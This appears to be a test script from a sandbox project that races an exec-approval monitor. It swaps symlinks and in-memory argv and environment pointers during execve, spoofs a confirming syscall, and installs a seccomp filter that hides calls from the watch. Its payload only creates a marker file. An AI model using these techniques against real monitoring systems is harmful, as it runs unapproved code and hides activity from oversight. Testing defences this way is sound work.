"""Swaps what an exec was judged by, between its release and the kernel's own reading of it (THREATS 6, 7, 8).

race.py MODE PROGRAM MARKER TRIES OUT
  file    PROGRAM is a symbolic link, swapped between good/ and bad/
  argv    /bin/sh -c: the pointer to its text is swapped in memory
  environment  bash -c: the pointer to its BASH_ENV is swapped in memory, to PROGRAM
  script  PROGRAM is a `#!` script: the pointer to its first argument is swapped in memory
  path    PROGRAM is a `#!` script, NAME.good: the path itself is swapped in memory, to NAME.bad
  spoof   PROGRAM is this interpreter, swapped as in `file`, and each try's leader makes the confirming call by
          itself while its other thread is inside the exec
  hide    as `file`, under a filter of its own that answers the confirming call by errno: the watch never hears it
  hideAll as `hide`, with every call hidden that the watch would hear, and a forbidden half that stays: it creates
          nothing, but two seconds of it count as MARKER
  kill    no swap: PROGRAM is killed at about the time it starts, which is nobody's fault

The forbidden half creates MARKER. The runner has a low priority and shares one processor with the swapper, so that
a released call waits while the swap goes on. OUT receives one JSON line per try. Speaks as much
MCP as is needed to be past its start-up.
"""
import ctypes
import json
import mmap
import os
import signal
import struct
import sys
import threading
import time

if os.environ.get("RACE_STAGE") == "2":
    os._exit(0)

MODE, PROGRAM, MARKER, TRIES, OUT = sys.argv[1], sys.argv[2], sys.argv[3], int(sys.argv[4]), sys.argv[5]
is_x86 = os.uname().machine == "x86_64"
SYS_set_tid_address = 218 if is_x86 else 96
# set_robust_list and exit_group: the other calls that a program makes and the watch hears.
hidden = [SYS_set_tid_address] + ({"hideAll": [273, 231] if is_x86 else [99, 94]}.get(MODE, []))
stayMs = 2000
libc = ctypes.CDLL(None, use_errno=True)
cpu = sorted(os.sched_getaffinity(0))[0]
# Shared with the swapper, which is another process.
page = mmap.mmap(-1, 32768)
base = ctypes.addressof(ctypes.c_char.from_buffer(page))


def note(**what):
    with open(OUT, "a") as file:
        file.write(json.dumps(what) + "\n")


def initialize():
    request = json.loads(sys.stdin.readline())
    info = {"name": "race", "version": "1"}
    result = {"protocolVersion": "2025-06-18", "capabilities": {}, "serverInfo": info}
    print(json.dumps({"jsonrpc": "2.0", "id": request["id"], "result": result}), flush=True)
    sys.stdin.readline()


def place(offset, text):
    page[offset : offset + len(text) + 1] = text.encode() + b"\0"
    return base + offset


PATH, SLOT, GOOD, BAD = place(1024, PROGRAM), 1, 0, 0
if MODE == "argv":
    PATH, SLOT = place(1024, "/bin/sh"), 2
    GOOD, BAD = place(4096, ":"), place(8192, f">{MARKER}")
    words = [place(2048, "sh"), place(2060, "-c"), GOOD]
elif MODE in ("script", "path"):
    GOOD, BAD = place(2048, "good"), place(2060, "bad")
    words = [PATH, GOOD]
elif MODE == "spoof":
    words = [place(8192 + 1024 * index, text) for index, text in enumerate([PROGRAM] + sys.argv)]
elif MODE == "hideAll":
    words = [place(2048, "program"), place(4096, "-f"), place(4100, "/dev/null")]
else:
    words = [place(2048, "program"), place(4096, MARKER)]
# The other vector, behind the arguments.
ENVIRONMENT = 512
variables = [place(1000, "RACE_STAGE=2")]
if MODE == "environment":
    PATH, SLOT = place(1024, "/bin/bash"), ENVIRONMENT // 8
    GOOD, BAD = place(4096, "BASH_ENV=/dev/null"), place(8192, f"BASH_ENV={PROGRAM}")
    words = [place(2048, "bash"), place(2060, "-c"), place(2070, ":")]
    variables = [GOOD]
for start, vector in ((0, words), (ENVIRONMENT, variables)):
    for index, word in enumerate(vector + [0]):
        page[start + 8 * index : start + 8 * index + 8] = word.to_bytes(8, "little")


def swap_bytes(at, good, bad):
    while True:
        page[at : at + len(bad)] = bad
        page[at : at + len(good)] = good


def swap_link():
    while True:
        for half in ("bad", "good"):
            os.symlink(f"{half}/{os.path.basename(PROGRAM)}", PROGRAM + ".new")
            os.rename(PROGRAM + ".new", PROGRAM)


def swap():
    os.sched_setaffinity(0, {cpu})
    if MODE == "kill":
        signal.pause()
    if MODE in ("file", "spoof", "hide", "hideAll"):
        swap_link()
    elif MODE == "path":
        swap_bytes(1024 + len(PROGRAM) - 4, b"good", b"bad\0")
    else:
        swap_bytes(8 * SLOT, GOOD.to_bytes(8, "little"), BAD.to_bytes(8, "little"))


def execute():
    libc.execve(ctypes.c_void_p(PATH), ctypes.c_void_p(base), ctypes.c_void_p(base + ENVIRONMENT))
    return ctypes.get_errno()


def hide():
    """Errno goes before the watch's answer. `struct sock_filter`: code, true, false, value."""
    load, equal, give = 0x20, 0x15, 0x06
    code = [(load, 0, 0, 0)]
    for call in hidden:
        code += [(equal, 0, 1, call), (give, 0, 0, 0x00050000 | 38)]
    code.append((give, 0, 0, 0x7FFF0000))
    program = ctypes.create_string_buffer(b"".join(struct.pack("=HBBI", *one) for one in code))
    header = ctypes.create_string_buffer(struct.pack("@HP", len(code), ctypes.addressof(program)))
    if libc.prctl(38, 1, 0, 0, 0) != 0 or libc.prctl(22, 2, header, 0, 0) != 0:
        os._exit(98)


def ended(child):
    """Its exit code; in `hideAll` whoever stays is the forbidden half."""
    if MODE != "hideAll":
        return os.waitstatus_to_exitcode(os.waitpid(child, 0)[1])
    stayed = 0
    while stayed < stayMs:
        pid, status = os.waitpid(child, os.WNOHANG)
        if pid != 0:
            return os.waitstatus_to_exitcode(status)
        time.sleep(0.001)
        try:
            # Held by the watch it has not started yet.
            stayed += os.readlink(f"/proc/{child}/exe") != os.readlink("/proc/self/exe")
        except OSError:
            pass  # it ends just now
    open(MARKER, "w").close()
    os.kill(child, signal.SIGKILL)
    return os.waitstatus_to_exitcode(os.waitpid(child, 0)[1])


def attempt():
    os.sched_setaffinity(0, {cpu})
    os.nice(10)
    if MODE in ("hide", "hideAll"):
        hide()
    if MODE == "environment":
        # With a socket there bash takes itself for a remote shell, and reads other files.
        os.dup2(os.open("/dev/null", os.O_RDONLY), 0)
    if MODE != "spoof":
        os._exit(execute() or 99)
    code = []
    threading.Thread(target=lambda: code.append(execute())).start()
    word = ctypes.c_int(0)
    while not code:
        libc.syscall(SYS_set_tid_address, ctypes.byref(word))
    os._exit(code[0])


initialize()
swapper = os.fork()
if swapper == 0:
    swap()
for number in range(TRIES):
    child = os.fork()
    if child == 0:
        attempt()
    note(started=number)
    if MODE == "kill":
        time.sleep(number % 40 / 10000)
        os.kill(child, signal.SIGKILL)
    status = ended(child)
    note(code=status, marker=os.path.exists(MARKER))
    if os.path.exists(MARKER):
        break
os.kill(swapper, 9)
os.waitpid(swapper, 0)
note(done=True)
sys.stdin.read()
